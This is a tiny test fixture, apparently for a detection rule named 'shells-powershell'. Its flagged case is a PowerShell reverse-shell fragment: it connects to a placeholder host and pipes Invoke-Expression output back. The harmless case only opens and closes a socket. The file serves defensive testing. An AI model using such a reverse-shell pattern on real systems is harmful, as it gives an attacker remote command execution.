# ruleid: shells-powershell
$c = New-Object System.Net.Sockets.TCPClient("a.invalid", 99); $s = $c.GetStream(); $o = (iex $d 2>&1 | Out-String)
# ok: shells-powershell
$c = New-Object System.Net.Sockets.TCPClient("a.invalid", 99); $c.Close()
